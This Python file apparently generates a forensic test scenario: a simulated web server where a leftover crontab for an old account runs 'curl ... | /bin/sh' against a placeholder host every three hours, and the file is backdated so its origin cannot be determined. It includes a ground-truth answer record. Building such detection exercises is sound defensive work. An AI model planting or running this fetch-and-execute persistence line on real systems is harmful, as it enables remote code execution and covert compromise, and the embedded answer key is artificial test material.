"""A crontab that a previous tenant left fetches code; how it came there no log can tell."""

from __future__ import annotations

import os
from datetime import UTC, datetime
from pathlib import Path

import server
import services
import site_code
import traffic
from machine import Bases, Truth

LINE = "23 */3 * * * /usr/bin/curl -fsS http://cdn.example.net/p | /bin/sh >/dev/null 2>&1"


def make(out: Path, bases: Bases) -> None:
    """The account is years old, its mailbox and home too; there is no login of it anywhere."""
    machine = server.web("lodge", bases, out)
    machine.user("oldshop")
    machine.write(
        "/var/spool/cron/crontabs/oldshop", f"# m h  dom mon dow   command\n{LINE}\n", 0o600
    )
    machine.run("chown", "oldshop:crontab", "/var/spool/cron/crontabs/oldshop")
    root = "/var/www/lodge"
    site_code.plain_site(machine, root)
    services.nginx_site(machine, server.SITE, root, pool="www2")
    services.pool(machine, "www2")
    server.start(machine)
    traffic.visitors(machine, server.SITE, site_code.PAGES)
    traffic.scanners(machine, server.SITE)
    for day in range(machine.days):
        for hour in range(0, 24, 3):
            machine.at(machine.on(day, hour, 23, 1), services.breath)
    machine.live()
    machine.end(
        Truth(
            "unknown",
            accounts=["oldshop"],
            services=["cron"],
            untouched=["nginx", "sshd", root],
            notes="not determinable: the crontab is from 2023, all logs are younger",
        )
    )
    long_ago = datetime(2023, 5, 9, 14, 2, 11, tzinfo=UTC).timestamp()
    os.utime(machine.path("/var/spool/cron/crontabs/oldshop"), (long_ago, long_ago))
